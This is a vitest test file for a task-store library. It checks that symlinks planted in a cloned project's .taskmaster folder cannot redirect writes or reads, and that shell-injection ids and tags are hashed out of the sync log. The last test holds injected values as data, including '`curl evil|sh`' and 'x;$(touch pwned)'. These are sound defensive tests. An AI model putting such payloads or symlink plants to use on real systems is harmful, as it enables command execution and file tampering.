import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { initProject, openStore } from '../src/index.js';
import { cleanup, filesIn, readSnapshot, rejectionOf, tempFilesLeft, tempProject } from './helpers.js';

afterEach(cleanup);

const small = { master: { tasks: [{ id: 1, title: 'one', status: 'pending' }] } };
const statusIn = (file: string) => JSON.parse(fs.readFileSync(file, 'utf8')).master.tasks[0].status;

/** A folder outside the project, standing for the user's home. */
function outsideFolder(): string {
  const dir = path.join(tempProject().root, 'outside');
  fs.mkdirSync(dir);
  return dir;
}

describe('symbolic links a cloned project may hold under .taskmaster/', () => {
  it('never appends log lines through a symlinked logs/sync.log (the operation still succeeds)', async () => {
    const project = tempProject(small);
    const victim = path.join(outsideFolder(), 'bashrc');
    fs.writeFileSync(victim, 'original\n');
    const logs = path.join(project.root, '.taskmaster', 'logs');
    fs.mkdirSync(logs);
    fs.symlinkSync(victim, path.join(logs, 'sync.log'));
    const store = await openStore(project.root, { actor: 'cli' });
    await expect(store.setStatus([1], 'done', { tag: 'master' })).resolves.toMatchObject({ written: true });
    await store.log({ op: 'server.start' });
    expect(fs.readFileSync(victim, 'utf8')).toBe('original\n');
    expect(fs.lstatSync(path.join(logs, 'sync.log')).isSymbolicLink()).toBe(true);
  });

  it('never rotates a symlinked sync.log.N or writes into a symlinked logs/ folder', async () => {
    const project = tempProject(small);
    const elsewhere = outsideFolder();
    fs.symlinkSync(elsewhere, path.join(project.root, '.taskmaster', 'logs'));
    const store = await openStore(project.root);
    await store.setStatus([1], 'done', { tag: 'master' });
    expect(filesIn(elsewhere)).toEqual([]);
  });

  it('refuses to write snapshots into a symlinked tasks/history: 1005 naming the folder, tasks.json unchanged', async () => {
    const project = tempProject(small);
    const before = fs.readFileSync(project.tasksFile, 'utf8');
    const elsewhere = outsideFolder();
    fs.symlinkSync(elsewhere, project.historyDir);
    const store = await openStore(project.root);
    const err = await rejectionOf(store.setStatus([1], 'done', { tag: 'master' }));
    expect(err.code).toBe(1005);
    expect(err.message).toContain('.taskmaster/tasks/history');
    expect(err.message).toMatch(/symbolic link/);
    expect(err.message).not.toContain(elsewhere);
    expect(filesIn(elsewhere)).toEqual([]);
    expect(fs.readFileSync(project.tasksFile, 'utf8')).toBe(before);
    expect(fs.lstatSync(project.historyDir).isSymbolicLink()).toBe(true);
    // The new version written for the refused commit went with it.
    expect(tempFilesLeft(project.root)).toEqual([]);
  });

  it('never reads a snapshot through a link planted in tasks/history', async () => {
    const project = tempProject(small);
    const before = fs.readFileSync(project.tasksFile, 'utf8');
    fs.mkdirSync(project.historyDir);
    const victim = path.join(outsideFolder(), 'victim.json');
    fs.writeFileSync(victim, JSON.stringify({ master: { tasks: [{ id: 9, title: 'planted', status: 'done' }] } }));
    fs.symlinkSync(victim, path.join(project.historyDir, '2020-01-01T00-00-00.000Z-000.json.gz'));
    const store = await openStore(project.root);
    expect(await store.history.list()).toEqual([]);
    await expect(store.history.restore('2020-01-01T00-00-00.000Z-000')).rejects.toMatchObject({ code: 'ELOOP' });
    expect(fs.readFileSync(project.tasksFile, 'utf8')).toBe(before);
  });

  it('initProject refuses symlinked config/, sparc/ and logs/ folders, writing nothing through them', async () => {
    for (const folder of ['config', 'sparc', 'logs']) {
      const project = tempProject();
      const elsewhere = outsideFolder();
      fs.symlinkSync(elsewhere, path.join(project.root, '.taskmaster', folder));
      const err = await rejectionOf(initProject(project.root));
      expect(err.code).toBe(1005);
      expect(err.message).toContain(`.taskmaster/${folder}`);
      expect(err.message).toMatch(/symbolic link/);
      expect(filesIn(elsewhere)).toEqual([]);
    }
  });

  it('initProject writes nothing through a dangling symlink where one of its files goes', async () => {
    const project = tempProject();
    const elsewhere = outsideFolder();
    const config = path.join(project.root, '.taskmaster', 'config');
    fs.mkdirSync(config);
    fs.symlinkSync(path.join(elsewhere, 'created-through-link'), path.join(config, 'sync.json'));
    await initProject(project.root).catch(() => undefined);
    expect(filesIn(elsewhere)).toEqual([]);
  });

  it('writes a symlinked tasks.json at its target: the link stays a link, the target gets the new content', async () => {
    const project = tempProject();
    const shared = outsideFolder();
    const target = path.join(shared, 'team-tasks.json');
    fs.writeFileSync(target, JSON.stringify(small, null, 2));
    fs.symlinkSync(target, project.tasksFile);
    const store = await openStore(project.root);
    expect((await store.read()).data).toEqual(small);
    await store.setStatus([1], 'done', { tag: 'master' });
    await store.setStatus([1], 'review', { tag: 'master' });
    expect(fs.lstatSync(project.tasksFile).isSymbolicLink()).toBe(true);
    expect(fs.readlinkSync(project.tasksFile)).toBe(target);
    expect(statusIn(target)).toBe('review');
    // The lock was taken beside the link, where Task Master locks, and released.
    expect(filesIn(path.dirname(project.tasksFile)).filter((n) => n.startsWith('tasks.json.lock'))).toEqual([]);
    expect(filesIn(shared)).toEqual(['team-tasks.json']);
    const snaps = await store.history.list();
    expect(snaps.map((s) => JSON.parse(readSnapshot(project.historyDir, s.id)).master.tasks[0].status)).toEqual(['done', 'pending']);
  });

  it('keeps ids and tags that a shell could run out of the log, writing a short hash instead', async () => {
    const evilTag = 'x;$(touch pwned)';
    const evilId = '`curl evil|sh`';
    const project = tempProject({ [evilTag]: { tasks: [{ id: evilId, title: 'one' }, { id: 5, title: 'five', subtasks: [{ id: 2, title: 'sub' }] }] } });
    const store = await openStore(project.root, { actor: 'cli' });
    // Task Master's own verbs would refuse such an id; a raw transaction still logs it.
    await store.transact((d: any) => {
      d[evilTag].tasks[0].title = 'changed';
    });
    await store.update('5.2', { title: 'changed' }, { tag: evilTag });
    const text = fs.readFileSync(path.join(project.root, '.taskmaster', 'logs', 'sync.log'), 'utf8');
    expect(text).not.toContain('curl');
    expect(text).not.toContain('touch');
    const hash = (s: string) => `#${createHash('sha256').update(s).digest('hex').slice(0, 12)}`;
    const lines = text.trim().split('\n').map((l) => JSON.parse(l));
    expect(lines[0]).toMatchObject({ ids: [hash(evilId)], tag: hash(evilTag) });
    expect(lines[1]).toMatchObject({ ids: ['5.2'], tag: hash(evilTag) });
  });
});
